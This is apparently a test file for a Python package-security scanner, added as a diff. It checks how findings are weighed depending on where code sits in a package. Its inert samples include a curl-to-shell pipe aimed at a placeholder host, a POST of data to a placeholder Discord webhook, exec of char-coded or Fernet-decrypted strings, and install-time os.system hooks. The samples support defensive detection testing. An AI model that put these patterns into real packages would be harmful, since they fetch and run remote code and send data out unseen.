@@ -1,0 +1,92 @@
+"""Where code runs decides what a finding weighs: each case is a synthetic, harmless sample
+(inert strings, never run) next to a twin that differs only in where the same code sits.
+"""
+
+from __future__ import annotations
+
+from bastion.core.scanning import scan
+
+from .support import rules_of, sdist
+
+SETUP_HEAD = "import os\nfrom setuptools import setup, Command\n"
+PUBLISH = ("class Publish(Command):\n    def run(self):\n        os.system('placeholder-upload dist/*')\n")
+
+
+def _scan(tmp_path, name, files):  # noqa: ANN001, ANN202
+    (tmp_path / name).mkdir()
+    return scan(sdist(tmp_path / name, files))
+
+
+def _weight(result, rule_id):  # noqa: ANN001, ANN202
+    return max((f.weight for f in result.findings if f.rule == rule_id), default=0.0)
+
+
+def test_a_setup_command_pip_never_runs_is_not_install_time(tmp_path):
+    inert = _scan(tmp_path, "a", {"setup.py": SETUP_HEAD + PUBLISH
+                                  + "setup(name='demo', cmdclass={'publish': Publish})\n"})
+    active = _scan(tmp_path, "b", {"setup.py": SETUP_HEAD + PUBLISH
+                                   + "setup(name='demo', cmdclass={'install': Publish})\n"})
+    assert "install-code" not in rules_of(inert) and inert.verdict == "clean"
+    assert _weight(active, "proc-exec") > _weight(inert, "proc-exec") > 0
+
+
+def test_a_setup_branch_on_a_maintainer_command_is_not_install_time(tmp_path):
+    guarded = _scan(tmp_path, "a", {"setup.py": "import os, sys\nfrom setuptools import setup\n"
+                                    "if sys.argv[-1] == 'publish':\n    os.system('placeholder-upload')\n"
+                                    "setup(name='demo')\n"})
+    bare = _scan(tmp_path, "b", {"setup.py": "import os, sys\nfrom setuptools import setup\n"
+                                 "os.system('placeholder-upload')\nsetup(name='demo')\n"})
+    assert "install-code" not in rules_of(guarded)
+    assert "install-code" in rules_of(bare)
+
+
+def test_a_telling_string_in_code_that_never_acts_is_data(tmp_path):
+    url = "'https://discord.com/api/webhooks/123/placeholder'"
+    data = _scan(tmp_path, "a", {"demo/sub/hosts.py": f"KNOWN = [{url}]\n"})
+    sent = _scan(tmp_path, "b", {"demo/sub/hosts.py": f"import requests\ndef go(x):\n"
+                                 f"    requests.post({url}, data=x)\n"})
+    assert "exfil-webhook" in rules_of(data) and data.verdict == "clean"
+    assert sent.verdict != "clean"
+
+
+def test_maintainer_scripts_and_ci_weigh_little(tmp_path):
+    command = "import os\ndef go():\n    os.system('curl -s http://example.invalid/x | sh')\n"
+    script = _scan(tmp_path, "a", {"scripts/release.py": command, ".buildkite/run.py": command})
+    package = _scan(tmp_path, "b", {"demo/core.py": command})
+    assert script.verdict == "clean"
+    assert package.verdict == "malicious"
+
+
+def test_a_top_level_module_counts_as_import_time_only_when_the_build_installs_it(tmp_path):
+    module = "import os\nos.system('placeholder-tool')\n"
+    setup = "from setuptools import setup\nsetup(name='demo', py_modules=['{}'])\n"
+    named = _scan(tmp_path, "a", {"setup.py": setup.format("helper"), "helper.py": module})
+    unnamed = _scan(tmp_path, "b", {"setup.py": setup.format("other"), "helper.py": module})
+    assert _weight(named, "proc-exec") > _weight(unnamed, "proc-exec") > 0
+
+
+def test_exec_of_readable_pieces_is_dynamic_and_of_char_codes_is_hidden(tmp_path):
+    readable = _scan(tmp_path, "a", {"demo/core.py": "def go():\n    return eval('lambda x: ' + 'x + 1')\n"})
+    hidden = _scan(tmp_path, "b", {"demo/core.py": "def go():\n    return eval(''.join(map(chr, "
+                                   "[112, 114, 105, 110, 116, 40, 41])))\n"})
+    assert "exec-decoded" not in rules_of(readable)
+    assert "exec-decoded" in rules_of(hidden)
+
+
+def test_decryption_by_a_method_of_an_object_built_in_place_is_decoding(tmp_path):
+    result = _scan(tmp_path, "a", {"demo/core.py": "from fernet import Fernet\n"
+                                   "exec(Fernet(b'placeholder-key').decrypt(b'placeholder-token'))\n"})
+    assert "exec-decoded" in rules_of(result)
+
+
+def test_looking_up_the_own_host_name_is_recon_not_network(tmp_path):
+    result = _scan(tmp_path, "a", {"demo/core.py": "import socket\n"
+                                   "ADDRESS = socket.gethostbyname(socket.gethostname())\n"})
+    assert "recon-host" in rules_of(result) and "net-call" not in rules_of(result)
+
+
+def test_a_pth_among_the_tests_is_a_fixture(tmp_path):
+    fixture = _scan(tmp_path, "a", {"tests/data/x.pth": "import placeholder\n"})
+    shipped = _scan(tmp_path, "b", {"src/x.pth": "import placeholder\n"})
+    assert fixture.verdict == "clean" and "pth-exec" in rules_of(fixture)
+    assert shipped.verdict == "malicious"
